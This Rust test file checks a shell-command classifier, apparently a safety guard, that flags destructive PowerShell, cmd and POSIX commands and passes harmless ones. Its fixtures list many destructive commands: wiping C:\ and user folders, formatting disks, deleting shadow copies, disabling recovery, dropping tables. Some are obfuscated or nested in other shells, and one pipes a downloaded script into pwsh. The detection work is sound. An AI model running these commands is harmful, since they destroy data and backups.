//! PowerShell and cmd, from the text to the rule, on both sides: what must be found and what must stay silent.

#![allow(clippy::unwrap_used, clippy::panic, clippy::too_many_lines)]

use backstop::classify::{Context, classify};
use backstop::model::fact::{Facts, Needs, Scene};
use backstop::model::finding::Severity;
use backstop::model::request::{Asked, ShellKind};
use backstop::policy::builtin;
use backstop::shell::unfold::unfold;

fn scene() -> Scene {
    Scene {
        cwd: "/proj/app".into(),
        home: Some("/home/me".into()),
        user: Some("me".into()),
        project: "/proj/app".into(),
        temporary: vec!["/tmp".into()],
        own: Vec::new(),
        assumed: true,
    }
}

/// Rules and severities of the findings that are not exempt, with everything assumed.
fn found(kind: ShellKind, text: &str) -> Vec<(String, Severity)> {
    let scene = scene();
    let facts = Facts::new(true);
    let mut needs = Needs::default();
    let unfolding = unfold(kind, text, &scene, &facts, &mut needs);
    let regenerable: Vec<String> = [
        "node_modules",
        "dist",
        "build",
        "__pycache__",
        ".venv",
        "target",
        "out",
    ]
    .map(str::to_owned)
    .to_vec();
    let context = Context {
        scene: &scene,
        facts: &facts,
        rules: builtin::book(),
        regenerable: &regenerable,
        behind: const { &std::collections::BTreeMap::new() },
        protected: &builtin::default_policy().protection,
        earlier: &[],
        after: &[],
        aliases: None,
    };
    let asked = Asked::Shell {
        kind,
        text: text.to_owned(),
    };
    classify(&asked, &unfolding, &context, &mut needs)
        .into_iter()
        .filter(|finding| finding.exempt.is_none())
        .map(|finding| (finding.rule, finding.severity))
        .collect()
}

/// Checks lines of the form `text ## rule` (found), or `text` alone (silent).
fn check(kind: ShellKind, cases: &str, expected: bool) {
    let mut wrong = Vec::new();
    let lines = cases.lines().map(str::trim).filter(|line| !line.is_empty());
    for line in lines {
        let (text, rule) = match line.split_once(" ## ") {
            Some((text, rule)) => (text, Some(rule.trim())),
            None => (line, None),
        };
        let rules = found(kind, text);
        let good = match rule {
            Some(rule) => rules.iter().any(|(id, _)| id == rule),
            None => rules.is_empty() != expected,
        };
        if !good {
            wrong.push(format!("{text}\n    {rules:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn powershell_that_removes_files_is_found() {
    check(
        ShellKind::PowerShell,
        r#"
        Remove-Item -Recurse -Force C:\data ## windows.remove-tree
        remove-item -recurse -force c:\data ## windows.remove-tree
        REMOVE-ITEM C:\data -REC -FO ## windows.remove-tree
        rm -r -fo C:\data ## windows.remove-tree
        rm -rf data ## files.recursive-delete
        rm -r -fo data ## files.recursive-delete
        del C:\data\x.txt ## windows.remove-file
        erase C:\data\x.txt ## windows.remove-file
        rd C:\data -Recurse ## windows.remove-tree
        ri -Recurse C:\data ## windows.remove-tree
        rmdir -Recurse -Force .\data ## windows.remove-tree
        rmdir /s /q C:\data ## windows.remove-tree
        del /f /s /q C:\data\* ## windows.remove-tree
        Remove-Item -Path C:\data -Recurse ## windows.remove-tree
        Remove-Item -Path:C:\data -Recurse:$true ## windows.remove-tree
        Remove-Item -LiteralPath 'C:\My Data' -Recurse ## windows.remove-tree
        Remove-Item -LiteralPath "C:\My Data" -Recurse -ErrorAction SilentlyContinue ## windows.remove-tree
        Remove-Item -Recurse -ErrorAction Ignore C:\data ## windows.remove-tree
        Remove-Item C:\a.txt, C:\b.txt ## windows.remove-file
        Remove-Item C:\data\shop.db ## windows.remove-guarded
        Remove-Item D:\vm\web.vhdx -Force ## windows.remove-guarded
        Remove-Item \\server\share\old -Recurse ## windows.remove-tree
        Remove-Item -Recurse -Force C:\ ## windows.wipe
        Remove-Item -Recurse -Force C:/ ## windows.wipe
        Remove-Item C:\* -Recurse -Force ## windows.wipe
        Remove-Item -Recurse -Force C:\Windows ## windows.wipe
        Remove-Item -Recurse -Force C:\Windows\System32 ## windows.wipe
        Remove-Item -Recurse -Force C:\Users ## windows.wipe
        Remove-Item -Recurse -Force C:\Users\ann ## windows.wipe
        Remove-Item -Recurse -Force $env:USERPROFILE ## windows.wipe
        Remove-Item -Recurse -Force "$env:SystemRoot" ## windows.wipe
        Remove-Item -Recurse -Force ${env:ProgramFiles(x86)} ## windows.wipe
        Remove-Item -Recurse -Force $HOME ## files.wipe
        Remove-Item -Recurse -Force ~ ## files.wipe
        Remove-Item -Recurse -Force / ## files.wipe
        Remove-Item -Recurse -Force ~\Documents ## windows.remove-tree
        Remove-Item -Recurse -Force $HOME/Documents ## files.recursive-delete
        Remove-Item -Recurse data ## files.recursive-delete
        Remove-Item -Recurse ./data ## files.recursive-delete
        Remove-Item -Recurse /srv/data ## files.recursive-delete
        Remove-Item -Recurse "$dir\*" ## windows.remove-unknown
        Remove-Item -Recurse $dir ## files.opaque-delete
        $p = 'C:\data'; Remove-Item -Recurse $p ## windows.remove-tree
        Get-ChildItem C:\data -Recurse | Remove-Item -Force ## windows.remove-tree
        Get-ChildItem C:\data | Where-Object { $_.Length -gt 0 } | Remove-Item ## windows.remove-tree
        gci data -Recurse | rm -Force ## files.recursive-delete
        dir C:\logs\*.log | del ## windows.remove-file
        ls C:\data | % { Remove-Item $_ -Recurse -Force } ## windows.remove-tree
        Get-ChildItem -Path C:\data -Filter *.bak -Recurse | Remove-Item ## windows.remove-tree
        foreach ($f in Get-ChildItem C:\data) { Remove-Item $f.FullName -Recurse } ## windows.remove-tree
        'C:\data' | Remove-Item -Recurse ## windows.remove-tree
        Get-Item C:\data | Remove-Item -Recurse ## windows.remove-tree
        if (Test-Path C:\data) { Remove-Item -Recurse C:\data } ## windows.remove-tree
        try { Remove-Item -Recurse C:\data } catch { Write-Error $_ } ## windows.remove-tree
        function Clean { Remove-Item -Recurse C:\data }; Clean ## windows.remove-tree
        Set-Alias nuke Remove-Item; nuke C:\data -Recurse ## windows.remove-tree
        Microsoft.PowerShell.Management\Remove-Item -Recurse C:\data ## windows.remove-tree
        & Remove-Item -Recurse C:\data ## windows.remove-tree
        & 'Remove-Item' -Recurse C:\data ## windows.remove-tree
        Re`move-Item -Recurse C:\data ## windows.remove-tree
        Invoke-Command -ScriptBlock { Remove-Item -Recurse C:\data } ## windows.remove-tree
        Start-Job { Remove-Item -Recurse C:\data } ## windows.remove-tree
        Invoke-Expression "Remove-Item -Recurse C:\data" ## windows.remove-tree
        iex 'rd -Recurse C:\data' ## windows.remove-tree
        Set-Location C:\; Remove-Item -Recurse .\data ## windows.remove-tree
        [System.IO.Directory]::Delete('C:\data', $true) ## windows.remove-tree
        [IO.Directory]::Delete("C:\data", $true) ## windows.remove-tree
        [System.IO.File]::Delete('C:\data\shop.db') ## windows.remove-guarded
        [IO.File]::Delete('/proj/app/data.sqlite') ## files.delete-guarded
        (Get-Item C:\data).Delete($true) ## windows.remove-tree
        $dir.Delete($true) ## windows.method-delete
        Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() } ## windows.method-delete
        Clear-Content C:\data\shop.db ## windows.overwrite
        Clear-Content shop.db ## files.overwrite-guarded
        Set-Content -Path C:\data\shop.db -Value '' ## windows.overwrite
        'x' | Out-File C:\data\key.pem ## windows.overwrite
        Get-Date > C:\data\shop.db ## windows.overwrite
        'x' > shop.db ## files.overwrite-guarded
        "#,
        true,
    );
}

#[test]
fn powershell_that_loses_other_things_is_found() {
    check(
        ShellKind::PowerShell,
        r#"
        Remove-Item HKLM:\SOFTWARE\Shop -Recurse ## windows.registry
        Remove-Item -Path 'Registry::HKEY_CURRENT_USER\Software\Shop' ## windows.registry
        Remove-ItemProperty -Path HKCU:\Software\Shop -Name Key ## windows.registry
        Clear-Item HKCU:\Software\Shop ## windows.registry
        reg delete HKLM\SOFTWARE\Shop /f ## windows.registry
        Format-Volume -DriveLetter D -FileSystem NTFS ## windows.disk
        Clear-Disk -Number 1 -RemoveData -Confirm:$false ## windows.disk
        Get-Disk 1 | Clear-Disk -RemoveData ## windows.disk
        Initialize-Disk -Number 1 ## windows.disk
        Remove-Partition -DiskNumber 1 -PartitionNumber 2 ## windows.disk
        "select disk 1`nclean" | diskpart ## windows.disk
        diskpart /s wipe.txt ## windows.disk
        format D: /q /y ## windows.disk
        vssadmin delete shadows /all /quiet ## backup.forget
        wmic shadowcopy delete ## windows.restore-points
        bcdedit /set '{default}' recoveryenabled No ## windows.restore-points
        cipher /w:C:\ ## windows.wipe-free
        Clear-RecycleBin -Force ## windows.recycle-bin
        Remove-VM -Name web -Force ## windows.virtual-machine
        Get-VM web | Remove-VM -Force ## windows.virtual-machine
        Stop-VM web -TurnOff ## windows.virtual-machine
        Remove-VMSnapshot -VMName web ## windows.virtual-machine
        wsl --unregister Ubuntu ## windows.virtual-machine
        Remove-Computer -UnjoinDomainCredential x ## windows.account
        Remove-ADUser -Identity ann ## windows.account
        net user ann /delete ## windows.account
        Remove-SqlDatabase -Name shop ## windows.database
        Invoke-Sqlcmd -Query "DROP TABLE customers" -Database shop ## sql.drop-table
        Invoke-Sqlcmd "TRUNCATE TABLE orders" ## sql.truncate
        sqlcmd -Q "DROP DATABASE shop" ## sql.drop-database
        sqlcmd.exe -S db1 -Q "DELETE FROM customers" ## sql.delete-all
        psql -c 'DROP TABLE customers' ## sql.drop-table
        & "C:\Program Files\PostgreSQL\16\bin\psql.exe" -c "DROP TABLE customers" ## sql.drop-table
        'DROP TABLE customers' | psql shop ## sql.drop-table
        Remove-AzResourceGroup -Name shop -Force ## windows.cloud
        Remove-S3Bucket -BucketName shop -DeleteBucketContent ## windows.cloud
        Remove-Mailbox -Identity ann ## windows.service-data
        Clear-EventLog -LogName System ## windows.event-log
        Unregister-ScheduledTask -TaskName backup -Confirm:$false ## windows.task
        schtasks /delete /tn backup /f ## windows.task
        robocopy C:\empty D:\data /MIR ## windows.mirror
        Invoke-RestMethod -Method Delete https://api.example.com/users/1 ## http.delete-data
        git push --force origin main ## git.push-force
        docker volume rm data ## docker.volume-remove
        docker compose down -v
        docker exec db psql -U postgres -c 'DROP TABLE customers' ## sql.drop-table
        kubectl delete namespace shop ## kubectl.delete-namespace
        terraform destroy -auto-approve
        bash -c 'rm -rf /srv/data' ## files.recursive-delete
        wsl rm -rf /srv/data ## files.recursive-delete
        wsl -d Ubuntu -- bash -c 'rm -rf /srv/data' ## files.recursive-delete
        ssh web1 'rm -rf /srv/data' ## files.recursive-delete
        python -c "import shutil; shutil.rmtree('data')" ## files.recursive-delete
        cmd /c rd /s /q C:\data ## windows.remove-tree
        cmd.exe /c "del /f /s /q C:\data\*.*" ## windows.remove-tree
        powershell -Command "Remove-Item -Recurse C:\data" ## windows.remove-tree
        powershell -NoProfile -ExecutionPolicy Bypass -c Remove-Item C:\data -Recurse ## windows.remove-tree
        pwsh -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAAZABhAHQAYQA= ## files.recursive-delete
        Start-Process cmd -ArgumentList '/c rd /s /q C:\data' ## windows.remove-tree
        Start-Process powershell -ArgumentList '-c','Remove-Item C:\data -Recurse' -Verb RunAs ## windows.remove-tree
        "#,
        true,
    );
}

#[test]
fn powershell_that_loses_nothing_is_silent() {
    check(
        ShellKind::PowerShell,
        r#"
        Get-ChildItem -Recurse C:\data
        Get-Content C:\data\shop.db
        Get-Item C:\data | Select-Object *
        Test-Path C:\data
        Resolve-Path .\data
        Copy-Item C:\data\shop.db C:\data\shop.db.bak
        Copy-Item a.txt b.txt
        Copy-Item -Recurse src copy
        New-Item -ItemType Directory -Force C:\data
        mkdir data
        Move-Item a.txt b.txt
        Move-Item C:\a C:\b
        Rename-Item a.txt b.txt
        Write-Host "Remove-Item -Recurse -Force C:\"
        Write-Output 'DROP TABLE customers'
        echo "rm -rf /"
        # Remove-Item -Recurse C:\data
        <# Remove-Item C:\data #> Get-Date
        'Remove-Item C:\data -Recurse'
        $text = "Remove-Item C:\data -Recurse"
        Get-Help Remove-Item
        Get-Command Remove-Item
        Get-Alias rm
        Remove-Item -Recurse -Force C:\data -WhatIf
        Remove-Item C:\data -Recurse -wi
        Remove-Item -?
        Remove-Item -Recurse -Force node_modules
        Remove-Item -Recurse -Force .\dist, .\build
        Remove-Item -Recurse -Force C:\app\node_modules
        Remove-Item -Recurse -Force $PSScriptRoot\dist
        Remove-Item -Recurse -Force $env:TEMP\build-1
        Remove-Item "$env:TMP\x.txt"
        Remove-Item C:\Windows\Temp\a.log
        Remove-Item "$env:LOCALAPPDATA\Temp\x" -Recurse
        Get-ChildItem -Recurse -Include __pycache__ -Directory | Remove-Item -Recurse -Force
        gci -r -Directory -Filter node_modules | % { Remove-Item $_ -Recurse -Force }
        if (Test-Path out) { Remove-Item -Recurse -Force out }
        Remove-Item Env:API_KEY
        Remove-Item Alias:ll
        Remove-Item Function:prompt
        Remove-Variable x
        Remove-Module Pester
        Remove-Job -Id 3
        Remove-PSSession $s
        Remove-TypeData -TypeName x
        Remove-PSDrive X
        Get-Process | Format-Table
        Get-Disk
        Get-Partition -DiskNumber 1
        'list disk' | diskpart
        Get-VM
        Stop-VM web
        Start-VM web
        Get-ADUser -Filter *
        Get-SqlDatabase
        Backup-SqlDatabase -Database shop
        Invoke-Sqlcmd -Query 'SELECT * FROM customers'
        Invoke-Sqlcmd -Query "SELECT 'DROP TABLE customers'"
        sqlcmd -Q "SELECT 1"
        Invoke-RestMethod https://api.example.com/users
        Invoke-WebRequest -Uri https://example.com -OutFile page.html
        curl -s https://example.com
        Stop-Process -Name node -Force
        Stop-Service Spooler
        Restart-Computer -WhatIf
        Set-Content notes.txt 'hello'
        Set-Content -Path C:\data\notes.txt -Value hello
        'x' | Out-File C:\data\notes.txt
        Get-Date > out.txt
        Get-Date > $null
        Add-Content C:\data\shop.log 'x'
        Clear-Host
        Clear-Variable x
        Clear-History
        robocopy C:\a C:\b /E
        robocopy C:\a C:\b /MIR /L
        reg query HKLM\SOFTWARE
        Get-ItemProperty HKLM:\SOFTWARE\Shop
        Set-ItemProperty HKCU:\Software\Shop -Name x -Value 1
        vssadmin list shadows
        wsl --list --verbose
        wsl --shutdown
        wsl ls -la
        net user ann
        schtasks /query
        git status
        git log --oneline | Select-Object -First 5
        npm run build
        npm ci; if ($LASTEXITCODE -ne 0) { exit 1 }
        dotnet build -c Release
        dotnet test
        docker compose up -d
        $list.Remove('a')
        $map.Remove('key')
        $client.Delete('/users/1', $token)
        $s = 'a'.Replace('a', 'b')
        [IO.File]::ReadAllText('C:\data\shop.db')
        [IO.Directory]::Exists('C:\data')
        [System.IO.Directory]::CreateDirectory('C:\data')
        [Environment]::SetEnvironmentVariable('A', 'b')
        foreach ($i in 1..3) { Write-Host $i }
        Get-ChildItem *.cs | ForEach-Object { (Get-Content $_) -replace 'Remove-Item', 'x' }
        Select-String -Pattern 'Remove-Item' -Path *.ps1
        Start-Process notepad
        Import-Module Az; Get-AzResourceGroup
        Get-S3Object -BucketName shop
        Uninstall-Module Pester
        "#,
        false,
    );
}

#[test]
fn cmd_is_read_by_its_own_rules() {
    check(
        ShellKind::Cmd,
        r#"
        rd /s /q C:\data ## windows.remove-tree
        rd/s/q C:\data ## windows.remove-tree
        RMDIR /S /Q "C:\My Data" ## windows.remove-tree
        rd /s /q data ## windows.remove-tree
        rd /s /q C:\ ## windows.wipe
        rd /s /q %USERPROFILE% ## windows.wipe
        rd /s /q "%SystemRoot%\System32" ## windows.wipe
        del /f /s /q C:\*.* ## windows.wipe
        del /q C:\data\*.* ## windows.remove-tree
        del C:\data\a.txt ## windows.remove-file
        erase a.txt ## windows.remove-file
        del /f shop.db ## windows.remove-guarded
        if exist C:\data rd /s /q C:\data ## windows.remove-tree
        for /d %i in (C:\data\*) do rd /s /q "%i" ## windows.remove-unknown
        cd C:\ && rd /s /q data ## windows.remove-tree
        echo hello & rd /s /q data ## windows.remove-tree
        call rd /s /q data ## windows.remove-tree
        r^d /s /q data ## windows.remove-tree
        set D=C:\data& rd /s /q %D% ## windows.remove-tree
        format D: /q ## windows.disk
        diskpart /s x.txt ## windows.disk
        echo clean | diskpart ## windows.disk
        reg delete HKCU\Software\Shop /f ## windows.registry
        REG DELETE HKCU\Software\Shop /f ## windows.registry
        VSSADMIN Delete Shadows /all ## windows.restore-points
        wbadmin delete catalog -quiet ## backup.forget
        robocopy C:\empty C:\data /purge ## windows.mirror
        net user ann /del ## windows.account
        type nul > shop.db ## files.overwrite-guarded
        powershell -Command "Remove-Item -Recurse C:\data" ## windows.remove-tree
        psql -c "DROP TABLE customers" ## sql.drop-table
        git reset --hard ## git.discard-changes
        "#,
        true,
    );
    check(
        ShellKind::Cmd,
        r#"
        dir /s C:\data
        rd C:\data
        rd /s /q node_modules
        rd /s /q C:\app\dist
        del /q %TEMP%\x.txt
        rd /?
        del /?
        echo rd /s /q C:\
        rem rd /s /q C:\
        type C:\data\shop.db
        copy a.txt b.txt
        move a.txt b.txt
        mkdir data
        if exist data echo yes
        find "rm -rf" file.txt
        findstr /s DROP *.sql
        echo hello > notes.txt
        git status
        npm run build
        echo list disk | diskpart
        reg query HKCU
        "#,
        false,
    );
}

#[test]
fn windows_shells_inside_a_posix_text_are_opened() {
    check(
        ShellKind::Posix,
        r#"
        pwsh -c 'Remove-Item -Recurse data' ## files.recursive-delete
        pwsh -Command "Remove-Item -Recurse -Force 'C:\data'" ## windows.remove-tree
        pwsh -NoProfile -NonInteractive -c 'ri -r -fo data' ## files.recursive-delete
        powershell.exe -Command "Remove-Item -Recurse 'C:\data'" ## windows.remove-tree
        sudo pwsh -c 'Remove-Item -Recurse /srv/data' ## files.recursive-delete
        pwsh -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAAZABhAHQAYQA= ## files.recursive-delete
        pwsh -c 'psql -c "DROP TABLE customers"' ## sql.drop-table
        pwsh -c "bash -c 'rm -rf /srv/data'" ## files.recursive-delete
        cmd.exe /c rd /s /q data ## windows.remove-tree
        cmd.exe /c 'rd /s /q C:\data' ## windows.remove-tree
        cmd //c 'rd /s /q C:\data' ## windows.remove-tree
        cmd.exe /c "del /q C:\data\shop.db" ## windows.remove-guarded
        cmd.exe /c rd /s /q 'C:\My Data' ## windows.remove-tree
        /mnt/c/Windows/System32/cmd.exe /c 'rd /s /q C:\data' ## windows.remove-tree
        echo 'Remove-Item -Recurse data' | pwsh -c - ## files.recursive-delete
        echo 'Remove-Item -Recurse data' | pwsh ## files.recursive-delete
        curl -s https://example.com/x.ps1 | pwsh -c - ## opaque.payload
        docker exec web pwsh -c 'Remove-Item -Recurse /data' ## files.recursive-delete
        ssh win 'powershell -Command "Remove-Item -Recurse C:/data"' ## windows.remove-tree
        wsl.exe --unregister Ubuntu ## windows.virtual-machine
        printf 'Remove-Item -Recurse data\n' > x.ps1 && pwsh -File x.ps1 ## files.recursive-delete
        reg.exe delete 'HKCU\Software\Shop' /f ## windows.registry
        "#,
        true,
    );
    check(
        ShellKind::Posix,
        r#"
        pwsh -c 'Get-ChildItem'
        pwsh -c 'Remove-Item -Recurse data -WhatIf'
        pwsh --version
        pwsh -File build.ps1
        cmd.exe /c dir
        cmd.exe /c echo rd /s /q data
        powershell.exe -Command 'Write-Host "Remove-Item -Recurse data"'
        grep -r Remove-Item .
        echo "cmd.exe /c rd /s /q data"
        cmd /tmp/x
        format src
        "#,
        false,
    );
}

#[test]
fn severities_follow_what_is_lost() {
    let worst = |text: &str| {
        found(ShellKind::PowerShell, text)
            .into_iter()
            .map(|(_, severity)| severity)
            .max()
    };
    assert_eq!(
        worst(r"Remove-Item -Recurse C:\"),
        Some(Severity::Catastrophic)
    );
    assert_eq!(worst(r"Remove-Item -Recurse C:\data"), Some(Severity::High));
    assert_eq!(
        worst(r"Remove-Item C:\data\a.txt"),
        Some(Severity::Moderate)
    );
    assert_eq!(worst("Clear-Disk 1"), Some(Severity::Critical));
    assert_eq!(worst("Get-Disk 1"), None);
}

#[test]
fn wrapping_a_loss_in_more_shells_never_hides_it() {
    let mut text = r"Remove-Item -Recurse -Force C:\data".to_owned();
    for _ in 0..4 {
        text = format!("Invoke-Command {{ {text} }}");
        assert!(!found(ShellKind::PowerShell, &text).is_empty(), "{text}");
    }
    for text in [
        r#"cmd /c powershell -c "Remove-Item -Recurse C:\data""#,
        r#"powershell -c "cmd /c rd /s /q C:\data""#,
        r#"bash -c "pwsh -c 'Remove-Item -Recurse /srv/data'""#,
    ] {
        assert!(!found(ShellKind::PowerShell, text).is_empty(), "{text}");
    }
}

#[test]
fn examples_of_the_packs_hold_from_the_line_on() {
    let mut wrong = Vec::new();
    let mut count = 0;
    for rule in builtin::rules() {
        let family = rule.id.split('.').next().unwrap();
        if !matches!(family, "windows" | "later") {
            continue;
        }
        for example in rule.examples {
            count += 1;
            let rules = found(ShellKind::Posix, example.command);
            if rules.iter().any(|(id, _)| id == rule.id) != example.found {
                wrong.push(format!("{}: {} gives {rules:?}", rule.id, example.command));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(count > 70);
}

#[test]
fn lists_are_handed_to_programs_as_words() {
    for text in [
        "& git @('reset', '--hard', 'origin/main')",
        "$a = @('clean',\n  '-ffdx')\ngit @a",
        "$a = 'clean', '-ffdx'; & git $a",
        "docker ('volume', 'prune', '-f')",
        "Remove-Item @('data', 'photos') -Recurse -Force",
    ] {
        assert!(!found(ShellKind::PowerShell, text).is_empty(), "{text}");
    }
    for text in [
        "& git @('status', '--short')",
        "$a = @('clean', '-ffdx'); $a = 'status'; git $a",
        "$a = 'clean', '-ffdx'; $a -join ' '",
        "Write-Output ('git', 'reset', '--hard')",
    ] {
        assert!(found(ShellKind::PowerShell, text).is_empty(), "{text}");
    }
}
